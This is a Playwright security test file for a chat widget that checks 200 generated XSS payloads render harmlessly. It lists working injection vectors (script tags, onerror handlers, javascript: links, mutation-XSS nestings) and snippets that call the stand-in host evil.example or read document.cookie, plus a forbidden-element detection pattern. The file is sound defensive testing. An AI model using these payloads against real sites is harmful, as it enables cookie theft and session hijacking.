"""Two hundred payloads in book, question, selection and model: none runs or calls out."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import ExitStack
from itertools import islice, product
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from tests.web.browser_fixtures import free_port, open_browser, site
from tests.web.hostile_server import SESSION, Event, done, hostile_server

from bythebook.server.html import said_html, to_html
from bythebook.server.static_files import widget_script
from bythebook.types import Sentence
from reliability.rows import Row

_BATCH = 25
_EVIL = "https://evil.example/"
_CODE = ["alert(1)", f"fetch('{_EVIL}')", f"location='{_EVIL}'", "parent.alert(document.cookie)"]
_SHAPES = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    f"<img src={_EVIL}p.png>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={}></style></mglyph></math>",
    "<math href=javascript:{}>x</math>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    f"<iframe src={_EVIL}></iframe>",
    "<a href=javascript:{}>x</a>",
    "[x](javascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    f"![x]({_EVIL}p.png)",
    f"[x]({_EVIL})",
    "<https://evil.example/{}>",
    "<details open ontoggle={}>x</details>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<style>@import '" + _EVIL + "{}';</style>",
    "<link rel=stylesheet href=" + _EVIL + "{}>",
    "<base href=" + _EVIL + ">{}",
    "<form action=" + _EVIL + "><button>{}</button></form>",
    "<video src=" + _EVIL + " onerror={}>",
    "<object data=" + _EVIL + "{}></object>",
    "<embed src=" + _EVIL + "{}>",
    "<meta http-equiv=refresh content='0;url=" + _EVIL + "{}'>",
    "</template><script>{}</script>",
    "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<div style='background:url(" + _EVIL + "{})'>x</div>",
    "<p onclick={} style=position:fixed;inset:0>x</p>",
    "$\\href{{javascript:{}}}{{x}}$",
    "$$\n\\text{{<img src=x onerror={}>}}\n$$",
    "```html\n<script>{}</script>\n```",
    "```js onload={}\nx\n```",
    "| a | <img src=x onerror={}> |\n|---|---|",
    '"><img src=x onerror={}>',
    "'-{}-'",
    "javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\u202e<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<by-the-book server=" + _EVIL + " key={}></by-the-book>",
    "<sup data-cite='1' onclick={}>1</sup>",
    "<!--><img src=x onerror={}>-->",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<slot name=x onslotchange={}></slot>",
    "<portal src=" + _EVIL + "{}></portal>",
    "<a href='//evil.example/{}' ping=" + _EVIL + ">x</a>",
    "<button formaction=javascript:{}>x</button>",
]
PAYLOADS = [shape.replace("{{", "{").replace("}}", "}").replace("{}", code)
            for code, shape in product(_CODE, _SHAPES)]  # fmt: skip


def _citation(number: int, payload: str) -> dict[str, Any]:
    return {
        "number": number,
        "chunk_text": payload,
        "similarity_score": 0.9,
        "chapter": payload,
        "section": payload,
        "url": payload,
        "link": payload if number % 2 else f"javascript:{payload}",
    }


def _told(payloads: list[str], *, cleaned: bool) -> Iterator[Event]:
    """Return the replies of a server whose book and model consist of payloads.

    Unless ``cleaned``, as if the server had let everything through.
    """
    sentences = [Sentence(text, (at,), "\n\n") for at, text in enumerate(payloads, 1)]
    citations = [_citation(at, text) for at, text in enumerate(payloads, 1)]
    raw = "".join(
        f"<p>{text} <sup data-cite='{at}'>{at}</sup></p>" for at, text in enumerate(payloads, 1)
    )
    html = said_html(sentences) if cleaned else raw
    yield SESSION
    yield "delta", {"text": payloads[0], "paragraph": 0, "html": html, "citations": citations}
    nearby = [{"title": text, "url": text} for text in payloads]
    more = {"disclaimer": payloads[0], "nearby": nearby, "query_id": payloads[0]}
    yield done(html + (to_html(payloads[0]) if cleaned else payloads[0]), **more)


def _refused(payloads: list[str]) -> Iterator[Event]:
    yield SESSION
    nearby = [{"title": text, "url": text} for text in payloads]
    yield done(payloads[0], should_answer=False, refusal_type=payloads[1], nearby=nearby)


def _tell(body: dict[str, Any]) -> Iterator[Event]:
    """Choose payloads and reply by the last words of the question."""
    how, _, at = body["message"].rpartition(" ")[2].partition("-")
    payloads = list(islice(PAYLOADS, int(at), int(at) + _BATCH))
    return _refused(payloads) if how == "refused" else _told(payloads, cleaned=how == "cleaned")


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    """Page without a content security policy: nothing may rely on one."""
    port = free_port()
    script = widget_script().encode()

    def pages(path: str) -> tuple[str, bytes]:
        if path == "/widget.js":
            return "text/javascript", script
        line = f'<script src="/widget.js" data-server="{hostile}"></script>'
        return "text/html; charset=utf-8", f"<!doctype html><p>Text of a page</p>{line}".encode()

    with ExitStack() as opened:
        hostile = opened.enter_context(hostile_server({"": _tell}, []))
        address = opened.enter_context(site(pages, {}, port))
        context = opened.enter_context(open_browser()).new_context()
        page = context.new_page()
        page.problems = []  # type: ignore[attr-defined]
        page.on("dialog", lambda dialog: (page.problems.append(dialog.message), dialog.dismiss()))  # type: ignore[attr-defined]
        context.on(
            "request",
            lambda request: (
                None
                if request.url.startswith((address, hostile))
                else page.problems.append(request.url)  # type: ignore[attr-defined]
            ),
        )
        page.goto(address)
        page.locator("by-the-book .launcher").click()
        yield page


def _ask(page: Page, question: str, selection: str) -> None:
    page.evaluate(
        """([question, selection]) =>
          document.querySelector("by-the-book").ask(question, selection)""",
        [question, selection],
    )
    expect(page.locator("by-the-book .answered.done").last).to_be_visible()


def _touch_everything(page: Page) -> None:
    """Hover and click every link."""
    page.evaluate(
        """() => {
          const root = document.querySelector("by-the-book").shadowRoot;
          document.addEventListener("bythebook:open", (event) => event.preventDefault());
          for (const link of root.querySelectorAll(".log *")) {
            link.dispatchEvent(new PointerEvent("pointerover", { bubbles: true }));
            if (link.closest(".actions, .note")) continue;
            link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
          }
        }"""
    )


_FORBIDDEN = """() =>
  [...document.querySelector("by-the-book").shadowRoot.querySelectorAll(".log *")]
    .filter((one) => /^(script|img|iframe|object|embed|link|style|base|meta|form|video)$/
      .test(one.localName) || [...one.attributes].some(({ name }) => /^on/.test(name)))
    .map((one) => one.outerHTML.slice(0, 100))"""


def _tell_all(page: Page, how: str) -> list[str]:
    """Show every payload in one way; return forbidden elements in the chat."""
    page.evaluate("() => document.querySelector('by-the-book').clear()")
    for at in range(0, len(PAYLOADS), _BATCH):
        _ask(page, f"{PAYLOADS[at]} {how}-{at}", PAYLOADS[at + 1] + "x" * 10)
        page.wait_for_timeout(50)
        _touch_everything(page)
    page.reload()  # and what was kept is as harmless
    expect(page.locator("by-the-book .answered.done").last).to_be_visible()
    _touch_everything(page)
    page.wait_for_timeout(300)
    found: list[str] = page.evaluate(_FORBIDDEN)
    return found


@pytest.mark.real
@pytest.mark.row(
    "S5",
    "Markup in answers (XSS)",
    "0 dialogs, 0 requests to another origin, 0 elements outside the allowed list",
)
def test_nothing_runs_and_nothing_calls_out(row: Row, page: Page) -> None:
    ways = ("cleaned", "raw", "refused")
    elements = [element for how in ways for element in _tell_all(page, how)]
    problems: list[str] = page.problems  # type: ignore[attr-defined]
    row.record(
        f"{len(PAYLOADS)} payloads as answer, question, selection, citation and topic, told by an "
        "honest server, by one that lets everything through, and in a refusal, in Chromium, on a "
        "page without a policy; everything pointed at and clicked; all read again after a reload",
        "; ".join([*problems[:2], *elements[:2]])
        or "0 dialogs, 0 requests elsewhere, 0 forbidden elements",
        passed=not problems and not elements and len(PAYLOADS) == 200,
    )
